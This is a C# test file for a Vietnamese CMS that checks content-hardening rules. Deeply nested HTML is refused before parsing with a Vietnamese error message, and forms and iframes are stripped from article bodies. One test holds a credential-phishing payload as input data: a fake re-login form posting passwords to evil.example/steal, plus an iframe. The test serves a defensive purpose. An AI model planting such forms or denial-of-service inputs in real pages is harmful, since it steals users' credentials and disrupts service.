using System.Net;
using DanVan.Orchard.Contents;
using Microsoft.Extensions.DependencyInjection;

namespace DanVan.Web.Tests.Hardening;

/// <summary>
/// HTML too deeply nested to sanitize cheaply (100,000 nested &lt;div&gt; took a minute of CPU) is refused before it is
/// parsed, with a Vietnamese message next to the field, and nothing is saved. Also: no forms in article bodies.
/// </summary>
[Collection(ContentHardeningCollection.Name)]
public sealed class NestedHtmlTests(ContentHardeningSite site)
{
    private static string Nested(int depth) =>
        string.Concat(Enumerable.Repeat("<div>", depth)) + "sâu" + string.Concat(Enumerable.Repeat("</div>", depth));

    /// <summary>100,000 levels are over the size limit (1 MB) already; 20,000 levels fit in it and meet the depth limit.</summary>
    [Theory]
    [InlineData(100_000, "Nội dung quá dài")]
    [InlineData(20_000, "lồng nhau quá 100 tầng")]
    public async Task A_contributors_deeply_nested_body_is_refused_next_to_the_field_and_nothing_is_saved(int depth, string message)
    {
        var contributor = await site.SignedInAsync("/hoa-an", "contributor");
        var title = $"Bài lồng sâu {depth}";

        var response = await contributor.PostFormAsync("/admin/contents/create/Article", "/admin/contents/create/Article", new()
        {
            ["Title"] = title,
            ["Path"] = string.Empty,
            ["BodyHtml"] = Nested(depth),
            ["submit"] = "draft",
        });

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var page = await response.Content.ReadAsStringAsync();
        Assert.Matches($"data-error-for=\"BodyHtml\"[^>]*>[^<]*{message}", page);
        Assert.Equal(0, await CountAsync(title));
    }

    [Fact]
    public async Task A_deeply_nested_html_field_of_a_meeting_report_is_refused_too()
    {
        var admin = await site.SignedInAsync("/hoa-an", "admin");

        var response = await admin.PostFormAsync("/admin/contents/create/MeetingReport", "/admin/contents/create/MeetingReport", new()
        {
            ["Title"] = "Hội nghị lồng sâu",
            ["Path"] = string.Empty,
            ["f.MeetingReport.MeetingDate"] = "2026-10-06",
            ["f.MeetingReport.Results"] = Nested(20_000),
            ["submit"] = "draft",
        });

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Matches("data-error-for=\"f.MeetingReport.Results\"[^>]*>Kết quả[^<]*lồng nhau quá 100 tầng", await response.Content.ReadAsStringAsync());
        Assert.Equal(0, await CountAsync("Hội nghị lồng sâu"));
    }

    [Fact]
    public async Task A_login_form_in_an_article_body_does_not_reach_readers()
    {
        var admin = await site.SignedInAsync("/hoa-an", "admin");

        var saved = await admin.PostFormAsync("/admin/contents/create/Article", "/admin/contents/create/Article", new()
        {
            ["Title"] = "Thông báo đăng nhập lại",
            ["Path"] = "tin-tuc/thong-bao-dang-nhap-lai",
            ["f.Article.Summary"] = "Tóm tắt.",
            ["BodyHtml"] = "<p>Hệ thống yêu cầu đăng nhập lại.</p><form action=\"https://evil.example/steal\" method=\"post\">" +
                "<input name=\"user\"><input type=\"password\" name=\"pass\"><button type=\"submit\">Đăng nhập</button></form>" +
                "<iframe src=\"https://evil.example/\"></iframe>",
            ["submit"] = "publish",
        });

        Assert.Equal(HttpStatusCode.Redirect, saved.StatusCode);
        var page = await site.Client("/hoa-an").GetStringAsync("/tin-tuc/thong-bao-dang-nhap-lai");
        Assert.Contains("Hệ thống yêu cầu đăng nhập lại.", page);
        Assert.DoesNotContain("evil.example", page);
        Assert.DoesNotContain("type=\"password\"", page);
    }

    private async Task<int> CountAsync(string title)
    {
        var count = 0;
        await site.InTenantAsync("HoaAn", async services =>
            count = (await services.GetRequiredService<IContentManager>()
                .QueryAsync(new ContentQuery(null, ContentStatus.All, title, ContentSort.ModifiedDesc, 1), CancellationToken.None)).Total);
        return count;
    }
}
